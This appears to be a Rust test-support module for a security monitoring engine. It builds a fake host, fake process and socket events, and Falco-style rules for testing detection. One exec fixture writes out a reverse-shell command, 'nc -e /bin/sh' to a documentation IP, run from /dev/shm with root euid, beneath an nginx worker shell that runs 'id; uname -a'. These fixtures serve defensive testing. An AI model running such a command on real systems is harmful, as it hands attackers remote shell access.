//! Tests of the back end: made-up events, rules as text.

mod at_exec;
mod engine;
mod falco;
mod fields;
mod needs;
mod operators;

use std::collections::HashMap;
use std::path::PathBuf;
use std::sync::Arc;

use monitor_common::record::ProcessKey;
use monitor_common::signals::activity::{Act, FileObject, SocketObject};

use super::{Engine, Memory, Rules, Session};
use crate::detect::lang::{self, Source};
use crate::detect::{Event, What, World};
use crate::processes::{Cgroup, Container, Credentials, GroupId, Image, Process, ProcessId};
use crate::signals::activity::{Activity, Actor, Name};
use crate::signals::exec::{Exec, ExecFile};

pub(in crate::detect) const SECOND: u64 = 1_000_000_000;
/// The host was booted at this time of day.
pub(in crate::detect) const BOOT: i128 = 1_700_000_000 * SECOND as i128;

/// A made-up host.
#[derive(Default)]
pub(in crate::detect) struct Host {
    pub(in crate::detect) processes: HashMap<ProcessId, Process>,
    pub(in crate::detect) protected: Vec<(u64, &'static [u8])>,
}

impl World for Host {
    fn process(&self, id: ProcessId) -> Option<&Process> {
        self.processes.get(&id)
    }

    fn find(&self, pid: u32) -> Option<&Process> {
        self.processes.values().find(|process| process.id.pid == pid)
    }

    fn observer(&self) -> u32 {
        9
    }

    fn group(&self, _: ProcessId) -> &str {
        "group"
    }

    fn user_name(&self, uid: u32) -> Option<&str> {
        [(0, "root"), (33, "www-data"), (1000, "ann")].iter().find(|(known, _)| *known == uid).map(|(_, name)| *name)
    }

    fn user_home(&self, uid: u32) -> Option<&[u8]> {
        (uid == 1000).then_some(b"/home/ann")
    }

    fn group_name(&self, gid: u32) -> Option<&str> {
        (gid == 0).then_some("wheel")
    }

    fn hostname(&self) -> &str {
        "box"
    }

    fn protected_path(&self, _: u32, inode: u64) -> Option<&[u8]> {
        self.protected.iter().find(|(known, _)| *known == inode).map(|(_, path)| *path)
    }

    fn boot_time_ns(&self) -> i128 {
        BOOT
    }
}

/// The process with this id, started that many seconds after boot.
pub(in crate::detect) fn key(pid: u32) -> ProcessKey {
    ProcessKey { start_ns: u64::from(pid) * SECOND, tgid: pid, reserved: 0 }
}

impl Host {
    /// A host with systemd (1), nginx (10), its worker (20) and a shell (30) of that.
    pub(in crate::detect) fn new() -> Self {
        let mut host = Self::default();
        host.add(1, None, "systemd", "/usr/lib/systemd/systemd", &["/sbin/init"]);
        host.add(10, Some(1), "nginx", "/usr/sbin/nginx", &["nginx: master", "-g", "daemon off;"]);
        host.add(20, Some(10), "worker", "/usr/sbin/nginx", &["nginx: worker"]);
        host.add(30, Some(20), "sh", "/usr/bin/dash", &["sh", "-c", "id; uname -a"]);
        host
    }

    pub(in crate::detect) fn add(
        &mut self,
        pid: u32,
        parent: Option<u32>,
        name: &str,
        exe: &str,
        args: &[&str],
    ) -> &mut Process {
        let id = ProcessId::from_key(key(pid));
        let mut process = Process::new(id, GroupId::UNKNOWN, 0);
        process.parent = parent.map(|parent| ProcessId::from_key(key(parent)));
        process.comm = name.as_bytes().into();
        let args: Vec<u8> = args.iter().flat_map(|arg| arg.bytes().chain([0])).collect();
        process.image = Arc::new(Image {
            exe: exe.as_bytes().into(),
            args_length: args.len() as u32,
            args: args.into(),
            cwd: b"/srv".as_slice().into(),
            tty: b"pts/3".as_slice().into(),
            file: of_root(),
            ..Image::default()
        });
        process.session = 10;
        process.process_group = 20;
        process.credentials = Credentials { uid: 33, euid: 33, suid: 33, ..Credentials::default() };
        self.processes.entry(id).or_insert(process)
    }

    pub(in crate::detect) fn change(&mut self, pid: u32, with: impl FnOnce(&mut Process)) {
        with(self.processes.get_mut(&ProcessId::from_key(key(pid))).unwrap());
    }

    pub(in crate::detect) fn contain(&mut self, pid: u32) {
        let container = Container { runtime: "docker", id: "0123456789abcdef".repeat(4) };
        let cgroup = Cgroup { path: "/docker/x".to_owned(), unit: None, container: Some(container) };
        self.change(pid, |process| process.cgroup = Arc::new(cgroup));
    }
}

/// The file of a program that root installed.
pub(in crate::detect) fn of_root() -> ExecFile {
    ExecFile { inode: 11, links: 1, mode: 0o100_755, ..ExecFile::default() }
}

/// Something that process `pid` does, 100 s after boot.
pub(in crate::detect) fn event(pid: u32, what: What) -> Event {
    Event { number: 7, time_ns: 100 * SECOND, cpu: 1, process: key(pid), tid: pid, what }
}

/// An exec by process 30.
pub(in crate::detect) fn exec(with: impl FnOnce(&mut Exec)) -> Event {
    let mut exec = Exec {
        time_ns: 100 * SECOND,
        process: key(30),
        parent: key(20),
        exe: b"/usr/bin/nc.traditional".to_vec(),
        cwd: b"/dev/shm".to_vec(),
        filename: b"./nc".to_vec(),
        args: ["nc", "-e", "/bin/sh", "192.0.2.1"].map(|arg| arg.as_bytes().to_vec()).to_vec(),
        args_length: 24,
        comm: b"nc".to_vec(),
        uid: 1000,
        euid: 0,
        ..Exec::default()
    };
    exec.file.inode = 77;
    with(&mut exec);
    event(30, What::Exec(Box::new(exec)))
}

/// Some activity of process 30.
pub(in crate::detect) fn activity(act: Act, call: &'static str, with: impl FnOnce(&mut Activity)) -> Event {
    let mut activity = Activity {
        time_ns: 100 * SECOND,
        cpu: 1,
        process: key(30),
        tid: 31,
        target: None,
        act,
        via: Default::default(),
        call,
        result: 0,
        args: [0; 6],
        actor: Actor { uid: 33, euid: 33, suid: 33, gid: 33, egid: 33, capabilities: 0 },
        cgroup_id: 1,
        comm: b"sh".to_vec(),
        file: None,
        path: Vec::new(),
        path_cut: false,
        socket: None,
        name: None,
        other: None,
    };
    with(&mut activity);
    let tid = activity.tid;
    Event { tid, ..event(30, What::Activity(Box::new(activity))) }
}

/// A name that was passed.
pub(in crate::detect) fn name(raw: &str, path: &str) -> Option<Name> {
    Some(Name { raw: raw.into(), path: path.into(), cut: false })
}

/// An open of `path` with these flags, which made descriptor 5.
pub(in crate::detect) fn open(path: &str, flags: i32) -> Event {
    activity(Act::FileOpen, "openat", |activity| {
        activity.result = 5;
        activity.args = [(-100_i64) as u64, 0, flags as u64, 0o644, 0, 0];
        activity.path = path.into();
        activity.name = name(path, path);
        activity.file =
            Some(FileObject { inode: 42, mode: 0o100_644, links: 1, device: 8 << 20 | 1, ..FileObject::default() });
    })
}

/// A socket to `198.51.100.7:443`.
pub(in crate::detect) fn socket() -> SocketObject {
    let mut socket = SocketObject {
        family: libc::AF_INET as u16,
        kind: 1,
        protocol: 6,
        state: 1,
        local_port: 40_000,
        peer_port: 443,
        ..SocketObject::default()
    };
    socket.local[..4].copy_from_slice(&[10, 0, 0, 5]);
    socket.peer[..4].copy_from_slice(&[198, 51, 100, 7]);
    socket
}

/// A rule file with one rule of this condition.
pub(in crate::detect) fn rule(condition: &str) -> String {
    format!("- rule: r\n  desc: d\n  condition: >\n    {condition}\n  output: out %proc.name\n  priority: WARNING\n")
}

/// What the rules of a file make, and what is wrong with them.
pub(in crate::detect) fn compile(text: &str) -> (Rules, Vec<String>) {
    let loaded = lang::load(&[Source { path: PathBuf::from("rules.yaml"), text: text.to_owned() }]);
    let mut diagnostics = loaded.diagnostics;
    let rules = Rules::new(loaded.rules, &mut diagnostics);
    (rules, diagnostics.iter().map(ToString::to_string).collect())
}

/// An engine with the rules of a file.
#[track_caller]
pub(super) fn engine(text: &str) -> Engine {
    let (rules, told) = compile(text);
    assert!(!told.iter().any(|message| message.contains("error:")), "{told:#?}");
    let mut engine = Engine::default();
    engine.replace(rules);
    engine
}

/// Whether the condition holds of the event.
#[track_caller]
pub(in crate::detect) fn holds(condition: &str, event: &Event, host: &Host) -> bool {
    let (rules, told) = compile(&rule(condition));
    assert_eq!(rules.list.len(), 1, "{condition}: {told:#?}");
    let mut memory = Memory::default();
    let mut session = Session::new(&rules, &mut memory, event, host);
    let held = rules.jobs(event).iter().any(|job| session.run(&job.program));
    // Explaining must come to the same result.
    let mut reasons = Vec::new();
    assert_eq!(session.reasons(&rules.list[0].tree, true, &mut reasons), held, "{condition}");
    session.end();
    held
}

/// The value of a field as a message shows it.
#[track_caller]
pub(in crate::detect) fn shown(field: &str, event: &Event, host: &Host) -> String {
    let (rules, told) = compile(&rule("evt.num > 0").replace("out %proc.name", &format!("'%{field}'")));
    assert_eq!(rules.list.len(), 1, "{field}: {told:#?}");
    let mut memory = Memory::default();
    let mut session = Session::new(&rules, &mut memory, event, host);
    let text = rules.list[0].output.write(&mut session);
    session.end();
    text
}
